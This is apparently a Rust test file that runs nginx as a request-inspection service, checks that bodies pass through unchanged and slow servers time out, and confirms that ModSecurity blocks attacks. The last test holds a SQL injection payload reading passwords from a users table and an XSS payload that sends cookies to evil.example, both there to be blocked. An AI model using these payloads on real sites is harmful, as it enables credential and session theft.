//! nginx as a device that requests pass, alone and with ModSecurity and its core rules.

use super::{
    CHUNKED, Front, Got, bytes, fake,
    real::{Daemon, daemon},
};
use crate::common::{
    Place, free_port,
    running::until,
    study::{is_installed, skip},
};
use std::{
    net::{Ipv4Addr, TcpStream},
    path::Path,
};

/// nginx that sends everything on to `back`; its port.
fn nginx(place: &Place, back: u16, modules: &str, inspection: &str) -> (u16, Daemon) {
    let (port, here) = (free_port(), place.0.display().to_string());
    let temporary: String = ["client_body", "proxy", "fastcgi", "uwsgi", "scgi"]
        .map(|kind| format!("  {kind}_temp_path {here}/{kind};\n"))
        .concat();
    let file = place.file(
        "nginx.conf",
        &format!(
            "{modules}daemon off;\nmaster_process off;\npid {here}/nginx.pid;\nerror_log {here}/error.log;\nevents {{}}\nhttp {{\n  access_log off;\n\
             {temporary}  keepalive_requests 7;\n  upstream back {{ server 127.0.0.1:{back}; keepalive 4; }}\n  server {{\n    listen 127.0.0.1:{port};\n{inspection}    \
             client_max_body_size 0;\n    location / {{\n      proxy_pass http://back;\n      proxy_http_version 1.1;\n      \
             proxy_set_header Host $http_host;\n      proxy_set_header Connection \"\";\n    }}\n    \
             location /waf/forbidden {{ return 403 \"by nginx\"; }}\n  }}\n}}\n"
        ),
    );
    let running =
        daemon(place, "nginx", &["-p", &here, "-e", &format!("{here}/error.log"), "-c", file.to_str().unwrap()]);
    until("nginx listens", || TcpStream::connect((Ipv4Addr::LOCALHOST, port)).is_ok());
    (port, running)
}

fn section(back: u16, at: u16) -> String {
    format!(
        "service waf\n  mode http\n  bind 127.0.0.1:{back}\n  server n 127.0.0.1:{at} check\nservice-chain waf\n  inspect waf\n"
    )
}

#[test]
fn requests_pass_through_nginx_unchanged() {
    if !is_installed("nginx") {
        return skip("requests through nginx: nginx is not installed");
    }
    let (place, back) = (Place::new("services-nginx"), free_port());
    let (at, _running) = nginx(&place, back, "", "");
    let front = Front::start_with("services-nginx-front", 2, "", &section(back, at), &["waf"], fake::origin());
    for (turn, size) in [0, 1, 16_384, 100_003, 1_500_000, 0, 77, 4096].into_iter().enumerate() {
        let (body, http2) = (bytes(size), turn % 2 == 1);
        for more in [&[][..], CHUNKED] {
            let got = front.ask(http2, "/waf/", Some(&body), more);
            assert!(got == Got { status: 200, body: body.clone() }, "{size} bytes: {}", got.status);
            let line = front.logged("chain=");
            assert!(line.contains("said=waf.request=passed:") && line.ends_with("to=o"), "{line}");
        }
        let got = front.ask(!http2, &format!("/waf/?bytes={size}"), None, &[]);
        assert!(got == Got { status: 200, body }, "{size} bytes downloaded: {}", got.status);
        assert_eq!(front.ask(http2, &format!("/waf/?bytes={size}"), None, &["-I"]).status, 200);
    }
    for http2 in [false, true] {
        let got = front.ask(http2, "/waf/forbidden", None, &[]);
        assert_eq!(got, Got { status: 403, body: b"by nginx".to_vec() });
        assert!(front.logged("=blocked:").contains(" 403 PR"));
    }
}

#[test]
fn a_device_that_waits_for_a_slow_server_is_not_suspended() {
    if !is_installed("nginx") {
        return skip("a slow server behind nginx: nginx is not installed");
    }
    let (place, back) = (Place::new("services-slow"), free_port());
    let (at, _running) = nginx(&place, back, "", "");
    let section = section(back, at).replace("check", "check inter 60s\n  timeout server 300ms");
    let front = Front::start_with("services-slow-front", 1, "", &section, &["waf"], fake::slow_origin());
    for _ in 0..4 {
        assert_eq!(front.ask(false, "/waf/slow", None, &[]).status, 503);
        assert!(front.logged("chain=waf").contains("=denied(timeout):"));
    }
    assert_eq!(front.ask(false, "/waf/", None, &[]).status, 200);
}

#[test]
fn an_attack_is_blocked_by_mod_security() {
    let (module, rules) = ("/usr/lib/nginx/modules/ngx_http_modsecurity_module.so", "/usr/share/modsecurity-crs/rules");
    if !(is_installed("nginx") && Path::new(module).exists() && Path::new(rules).exists()) {
        return skip("an attack through ModSecurity: libnginx-mod-http-modsecurity, modsecurity-crs not installed");
    }
    let (place, back) = (Place::new("services-modsecurity"), free_port());
    let file = place.file(
        "modsecurity.conf",
        &format!(
            "SecRuleEngine On\nSecRequestBodyAccess On\nSecResponseBodyAccess Off\nSecRequestBodyLimit 13107200\n\
             SecRequestBodyNoFilesLimit 131072\nSecPcreMatchLimit 100000\nSecPcreMatchLimitRecursion 100000\n\
             Include /etc/modsecurity/crs/crs-setup.conf\nInclude {rules}/*.conf\n"
        ),
    );
    let inspection = format!("    modsecurity on;\n    modsecurity_rules_file {};\n", file.display());
    let (at, _running) = nginx(&place, back, &format!("load_module {module};\n"), &inspection);
    let front = Front::start_with("services-modsecurity-front", 2, "", &section(back, at), &["waf"], fake::origin());
    for http2 in [false, true] {
        let agent = ["-A", "Mozilla/5.0", "-H", "Accept: text/html"];
        let body = b"name=Ada&town=London".to_vec();
        assert_eq!(front.ask(http2, "/waf/?id=1", Some(&body), &agent), Got { status: 200, body });
        assert!(front.logged("chain=").contains("said=waf.request=passed:"));
        let attack = "/waf/?id=1%27%20OR%20%271%27=%271%27%20UNION%20SELECT%20password%20FROM%20users--";
        assert_eq!(front.ask(http2, attack, None, &agent).status, 403);
        let line = front.logged("chain=");
        assert!(line.contains("said=waf.request=blocked:") && line.ends_with("to=<NOSRV>"), "{line}");
        let attack = b"text=<script>document.location='http://evil.example/?c='+document.cookie</script>";
        assert_eq!(front.ask(http2, "/waf/", Some(attack), &agent).status, 403, "in a body");
        assert!(front.logged("chain=").contains("said=waf.request=blocked:"));
    }
}
